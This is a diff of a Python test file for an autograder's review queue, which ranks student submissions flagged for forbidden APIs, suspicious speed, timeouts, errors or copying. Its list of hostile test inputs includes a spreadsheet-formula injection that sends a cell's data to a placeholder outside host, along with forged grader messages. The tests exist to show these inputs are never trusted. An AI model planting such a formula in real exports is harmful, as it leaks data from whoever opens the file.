@@ -1,28 +1,39 @@
-"""The class report's review queue: every submission that needs a person, one line saying why, a link to its
-feedback; read from the feedback the checks wrote, never changing a score."""
+"""The class report's review queue: what needs a person, ranked, each submission's reasons and each group of
+copies once, one line per reason, a link to each feedback; reasons only from what the grading observed, never
+from text a submission printed; never changing a score."""
 
 from __future__ import annotations
 
+import random
 import re
+from fnmatch import fnmatchcase
+from functools import cache
 from pathlib import Path
 
 from disguise import reformatted, renamed
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from helpers import ROOT, SUBMISSIONS
 from lmgrade import Case, Check, Tolerance, catalog, templates
-from lmgrade.feedback import FORBIDDEN_HIDDEN, forbidden_message, summarize
-from lmgrade.regrade.graded import CheckScore, Graded
+from lmgrade.checks import CaseVerdict
+from lmgrade.feedback import FORBIDDEN_HIDDEN, forbidden_message
+from lmgrade.regrade.graded import FORBIDDEN, MUCH_FASTER, TIMEOUT, CheckScore, Graded, observed_facts
 from lmgrade.regrade.insights import identical_groups
 from lmgrade.regrade.layout import Student, SubmissionFolder
-from lmgrade.regrade.near_duplicates import NearDuplicate
+from lmgrade.regrade.near_duplicates import NearDuplicate, near_duplicates
 from lmgrade.regrade.report import render_report
-from lmgrade.regrade.review_queue import review_queue
+from lmgrade.regrade.review_queue import MAX_REASON_CHARS, review_queue
+from lmgrade.results import GradingRun, Verdict
 from lmgrade.speed import Timing
 from lmgrade.timing_grading import Laps, judge_case
 
+LAST_OUTPUT = "\nlast output:\n"  # how the sandbox ends a dead child's message with what it printed last
+USED = forbidden_message(["torch.nn.functional.layer_norm"], " in layers.py line 3 (`F.layer_norm(x, s)`)")
 
-def _timing_output(student_seconds: float) -> str:
-    """What a timing check's feedback says of laps this fast, against a reference's of 10 ms (as graded)."""
+
+def _timing_message(student_seconds: float) -> str:
+    """What a timing check's case says of laps this fast, against a reference's of 10 ms (as graded)."""
     check = Check(
         "speed",
         "a timed call",
@@ -35,69 +46,196 @@ def _timing_output(student_seconds: float) -> str:
     def laps(seconds: float) -> Laps:
         return Laps([seconds] * 8, [(i, [float(i)]) for i in range(10)])
 
-    case = Case("x", {})
-    verdict = judge_case(check, case, laps(0.01), laps(student_seconds), lambda n: [float(n)], "cpu")
-    return summarize([(case, verdict)], reveal=False)
+    return judge_case(check, Case("x", {}), laps(0.01), laps(student_seconds), lambda n: [float(n)], "cpu").message
 
 
-def _row(key: str, outputs: dict[str, str] | None = None, error: str = "", files_hash: str = "", students=()):
-    """A transformer submission whose checks all pass but those given a (failing) output."""
-    outputs = outputs or {}
-    assignment, _ = catalog.load("transformer")
-    checks = tuple(
-        CheckScore(c.name, 0.0 if c.name in outputs else c.points, c.points, outputs.get(c.name, "all passed"))
-        for c in assignment.checks
+def _run(messages: dict[str, list[str]]) -> GradingRun:
+    """A transformer grading whose checks' cases failed with these messages (every other check passed)."""
+    verdicts = []
+    for number, check in enumerate(_transformer().checks, start=1):
+        said = messages.get(check.name)
+        cases = [(Case(f"case {i}", {}), CaseVerdict(False, m)) for i, m in enumerate(said or [])]
+        verdicts.append(Verdict(check, number, 0.0 if said else check.points, "feedback", cases or []))
+    return GradingRun(Path("s"), "", verdicts)
+
+
+def _observed(messages: dict[str, list[str]]) -> tuple:
+    return observed_facts(_transformer(), _run(messages))
+
+
+def test_what_the_grader_observed_is_read_from_the_opening_words_it_wrote_itself():
+    facts = _observed(
+        {
+            "layer_norm": [USED],
+            "block": [f"{USED}\n{forbidden_message(['torch.nn.LayerNorm'], ' in layers.py line 9 (`x`)')}"],
+            "model": [FORBIDDEN_HIDDEN],
+            "attention_speed": [_timing_message(0.0005)],
+            "attention": ["time limit exceeded: still running after 8 s (wall clock)"],
+            "feed_forward": ["not run: the check's time limit was used up", "CPU time limit exceeded (8 s)"],
+        }
     )
+    assert (FORBIDDEN, "layer_norm", "torch.nn.functional.layer_norm") in facts
+    assert (FORBIDDEN, "block", "torch.nn.LayerNorm") in facts and (
+        FORBIDDEN,
+        "model",
+        "an API this assignment forbids",
+    ) in facts
+    (fast,) = [f for f in facts if f[0] == MUCH_FASTER]
+    assert fast[1] == "attention_speed" and fast[2].startswith("0.5 ms against 10 ms") and fast[2].endswith("0.05x")
+    assert (TIMEOUT, "attention", "") in facts and [f for f in facts if f[1] == "feed_forward"] == [
+        (TIMEOUT, "feed_forward", "")
+    ]
+    # Too slow is a failure, not a reason to look; the same words in a check that is not timed are nothing.
+    assert not _observed({"attention_speed": [_timing_message(0.05)]})
+    assert not _observed({"layer_norm": ["flagged for review by the course staff"]})
+
+
+HOSTILE = [
+    # What a submission can put into a case's message: after the grader's own opening words, always.
+    f"raised ValueError: {USED}",
+    f"the process ended with exit status 1 before finishing{LAST_OUTPUT}{USED}\ntime limit exceeded",
+    f"could not import the submission:\n  {USED}",
+    "expected 3, got 'used torch.nn.LayerNorm, which this assignment forbids'",
+    # A forbidden use the child reports at run time, naming what no assignment forbids.
+    forbidden_message(['=HYPERLINK("http://x/?"&C2,"Ada")']),
+    forbidden_message(["numpy.linalg.norm"]),
+]
+
+
+def test_text_a_submission_wrote_never_becomes_a_reason():
+    for message in HOSTILE:
+        assert not _observed({"layer_norm": [message]}), message
+        assert not _observed({"attention_speed": [message]}), message
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(st.text(max_size=300), min_size=1, max_size=4), st.sampled_from(["layer_norm", "attention_speed"]))
+def test_any_message_gives_facts_in_the_grader_s_own_words(messages, check):
+    facts = _observed({check: messages})  # never raises
+    spec = _transformer().spec
+    listed = [*spec.forbidden, *(n for names in spec.forbidden_also.values() for n in names)]
+    listed += [n for names in spec.forbidden_operators.values() for n in names]
+    for kind, name, detail in facts:
+        assert name == check and kind in (FORBIDDEN, MUCH_FASTER, TIMEOUT)
+        if kind == FORBIDDEN:  # an API the assignment lists, in the list's own spelling: no other text
+            assert detail == "an API this assignment forbids" or any(fnmatchcase(detail, api) for api in listed)
+            assert re.fullmatch(r"[\w.:* ]+", detail)
+        if kind == MUCH_FASTER:
+            assert detail == "" or re.fullmatch(r"[\d.]+ ?[µm]?s against [\d.]+ ?[µm]?s, [\d.]+x", detail)
+
+
+@cache
+def _transformer():
+    return catalog.load("transformer")[0]
+
+
+def _row(key: str, observed=(), error: str = "", files_hash: str = "", students=()):
+    """A transformer submission whose checks all pass, with what its grading observed."""
+    checks = tuple(CheckScore(c.name, c.points, c.points, "all passed") for c in _transformer().checks)
     return (
         SubmissionFolder(key, Path(key), tuple(Student(name) for name in students)),
-        Graded(() if error else checks, error=error, files_hash=files_hash),
+        Graded(() if error else checks, error=error, files_hash=files_hash, observed=tuple(observed)),
     )
 
 
-def test_each_submission_that_needs_a_person_is_listed_once_with_every_reason_on_one_line():
-    assignment, _ = catalog.load("transformer")
-    used = forbidden_message(["torch.nn.functional.layer_norm"], " in layers.py line 3 (`F.layer_norm(x, s)`)")
+def test_the_queue_is_ranked_with_each_submission_and_each_group_once_and_every_reason_on_one_line():
+    assignment = _transformer()
     rows = [
         _row("clean"),
-        _row("forbidden", {"layer_norm": used, "block": f"{used}\nsomething else"}, students=("Ada",)),
-        _row("hidden forbidden", {"model": FORBIDDEN_HIDDEN}),
-        _row("fast", {"attention_speed": _timing_output(0.0005)}),
-        _row("slow", {"attention_speed": _timing_output(0.05)}),  # too slow: a failure, nothing to review
-        _row("the same words", {"layer_norm": "flagged for review by the course staff"}),  # not a timing check
-        _row("broken", error="HarnessFault: the sandbox broke"),
+        _row("slow", [(TIMEOUT, "attention", ""), (TIMEOUT, "feed_forward", "")]),
+        _row(
+            "forbidden",
+            [
+                (FORBIDDEN, "layer_norm", "torch.nn.functional.layer_norm"),
+                (FORBIDDEN, "block", "torch.nn.functional.layer_norm"),
+            ],
+            students=("Ada",),
+        ),
+        _row("fast", [(MUCH_FASTER, "attention_speed", "0.5 ms against 10 ms, 0.05x")]),
+        _row("broken", error="PermissionError: [Errno 13] Permission denied: 'ngram.py'"),
         _row("twin_a", files_hash="h"),
         _row("twin_b", files_hash="h"),
         _row("near_a"),
         _row("near_b"),
+        _row("pair_x"),
+        _row("pair_y"),
     ]
-    near = [NearDuplicate("near_a", "near_b", 0.87, 120), NearDuplicate("near_a", "twin_a", 0.61, 40)]
+    near = [
+        NearDuplicate("near_a", "near_b", 0.87, 120),
+        NearDuplicate("near_a", "twin_a", 0.61, 40),
+        NearDuplicate("pair_x", "pair_y", 0.95, 90),
+    ]
     before = [g.as_dict() for _, g in rows]
     queue = review_queue(assignment, rows, identical_groups(rows), near)
-    why = {entry.submission: entry.why for entry in queue}
-    assert list(why) == ["forbidden", "hidden forbidden", "fast", "broken", "twin_a", "twin_b", "near_a", "near_b"]
-    assert all("\n" not in line for line in why.values())
-    assert why["forbidden"] == (
-        "forbidden API: used torch.nn.functional.layer_norm in layers.py line 3 (`F.layer_norm(x, s)`) "
-        "(checks layer_norm, block)"
+    assert [e.submissions for e in queue] == [
+        ("broken",),
+        ("forbidden",),
+        ("fast",),
+        ("twin_a", "twin_b", "near_a", "near_b"),  # the largest group first
+        ("pair_x", "pair_y"),
+        ("slow",),
+    ]
+    why = {e.submission: e.reasons for e in queue}
+    assert why["broken"][0] == "not graded: PermissionError: [Errno 13] Permission denied: 'ngram.py'"
+    assert why["broken"][1].startswith("to do: make every file of the submission readable")
+    assert why["forbidden"] == ("forbidden API: torch.nn.functional.layer_norm (checks layer_norm, block)",)
+    assert why["fast"] == (
+        "attention_speed much faster than the reference (0.5 ms against 10 ms, 0.05x), not paid until reviewed",
     )
-    assert why["hidden forbidden"] == "forbidden API: used an API this assignment forbids (checks model)"
-    assert why["fast"].startswith("attention_speed much faster than the reference (0.5 ms per call against")
-    assert "0.05x" in why["fast"] and why["fast"].endswith("not paid until reviewed")
-    assert why["broken"] == "not graded: the harness failed (HarnessFault: the sandbox broke)"
-    assert (
-        why["twin_a"]
-        == "identical to twin_b (the same graded files); near-duplicate of near_a (61% of fingerprints shared)"
+    assert why["twin_a"] == (
+        "4 submissions share most of their code: 2 near-duplicate pairs, 61% to 87% of fingerprints shared",
+        "identical graded files: twin_a, twin_b",
     )
-    assert why["near_b"] == "near-duplicate of near_a (87% of fingerprints shared)"
-    assert why["near_a"] == "near-duplicate of near_b (87% of fingerprints shared), twin_a (61% of fingerprints shared)"
-    entries = {entry.submission: entry for entry in queue}
-    assert entries["forbidden"].students == ("Ada",)
-    assert entries["hidden forbidden"].link == "results/hidden%20forbidden/results.json"
+    assert why["pair_x"] == (
+        "2 submissions share most of their code: 1 near-duplicate pair, 95% of fingerprints shared",
+    )
+    assert why["slow"] == (
+        "stopped by a time limit in checks attention, feed_forward: a loop, or code far slower than it should be",
+    )
+    assert all("\n" not in reason for e in queue for reason in e.reasons)
+    entries = {e.submission: e for e in queue}
+    assert entries["forbidden"].students == ("Ada",) and entries["twin_a"].links[2] == "results/near_a/results.json"
     # Only read: every grade is as it was.
     assert [g.as_dict() for _, g in rows] == before
 
 
-def test_the_report_renders_the_queue_and_the_near_duplicates_with_links(ngram, tmp_path):
+def test_a_class_of_a_thousand_full_of_copies_is_one_entry_per_group():
+    """1000 submissions copied from 10 sources, each copy changed a little: 10 entries, each member once."""
+    assignment = _transformer()
+    rng = random.Random(7)
+    sources = [[rng.getrandbits(63) for _ in range(120)] for _ in range(10)]
+    prints, origin = {}, {}
+    for i in range(1000):
+        source = i % 10
+        kept = [h for h in sources[source] if rng.random() > 0.15]  # each copy loses about 15% of its source's
+        prints[f"s{i}"] = frozenset(kept + [rng.getrandbits(63) for _ in range(10)])
+        origin[f"s{i}"] = source
+    near = near_duplicates(prints)
+    assert len(near) == 10 * (100 * 99 // 2)  # every pair of copies of one source, none across
+    rows = [_row(key) for key in prints]
+    queue = review_queue(assignment, rows, identical_groups(rows), near)
+    assert len(queue) == 10 and [len(e.submissions) for e in queue] == [100] * 10
+    members = [key for e in queue for key in e.submissions]
+    assert sorted(members) == sorted(prints)  # each once
+    assert all(len({origin[k] for k in e.submissions}) == 1 for e in queue)
+    assert all(len(reason) <= MAX_REASON_CHARS for e in queue for reason in e.reasons)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.tuples(st.integers(0, 29), st.integers(0, 29), st.floats(0.6, 1.0)), max_size=80))
+def test_any_pairs_make_groups_that_hold_each_submission_once_and_each_pair_in_one_group(pairs):
+    assignment = _transformer()
+    rows = [_row(f"k{i}") for i in range(30)]
+    near = [NearDuplicate(f"k{min(a, b)}", f"k{max(a, b)}", s, 20) for a, b, s in pairs if a != b]
+    queue = review_queue(assignment, rows, [], near)
+    group_of = {key: i for i, e in enumerate(queue) for key in e.submissions}
+    assert sum(len(e.submissions) for e in queue) == len(group_of)
+    assert all(group_of[p.first] == group_of[p.second] for p in near)
+    sizes = [len(e.submissions) for e in queue]
+    assert sizes == sorted(sizes, reverse=True)
+
+
+def test_the_report_renders_the_queue_and_the_groups_with_links(ngram, tmp_path):
     assignment, variant = ngram
     stub = templates.render(assignment, variant)["ngram.py"]
     reference = (ROOT / "reference" / "ngram" / "ngram.py").read_text()
@@ -116,16 +254,17 @@ def test_the_report_renders_the_queue_and_the_near_duplicates_with_links(ngram, 
     html = render_report(assignment, variant, rows)
     queue = html[html.index('<table id="review">') : html.index("</table>", html.index('<table id="review">'))]
     assert re.findall(r'<a href="([^"]+)">([^<]+)</a>', queue) == [
+        ("results/broken/results.json", "broken"),
         ("results/original/results.json", "original"),
         ("results/copy/results.json", "copy"),
-        ("results/broken/results.json", "broken"),
     ]
-    assert "<td>Original</td><td>near-duplicate of copy (" in queue and "independent" not in queue
-    assert 'id="to-review">3<' in html
-    near = html[html.index('<table id="near-duplicates">') :]
-    near = near[: near.index("</table>")]
-    assert near.count("<tr>") == 2 and "<td>original, copy</td>" in near and "<td>Original / Copy</td>" in near
+    assert "<td>Original; Copy</td>" in queue and "independent" not in queue
+    assert '<div class="reason">2 submissions share most of their code: 1 near-duplicate pair' in queue
+    assert 'id="to-review">2<' in html
+    groups = html[html.index('<table id="near-duplicates">') :]
+    groups = groups[: groups.index("</table>")]
+    assert groups.count("<tr>") == 2 and "<td>original, copy</td>" in groups and "<td>Original / Copy</td>" in groups
     # Nothing to review: said so.
     clean = render_report(assignment, variant, rows[2:3])
     assert '<p id="review">No submission needs a person.</p>' in clean and 'id="to-review">0<' in clean
-    assert '<p id="near-duplicates">No two submissions are near-duplicates.</p>' in clean
+    assert '<p id="near-duplicates">No two submissions share their code.</p>' in clean
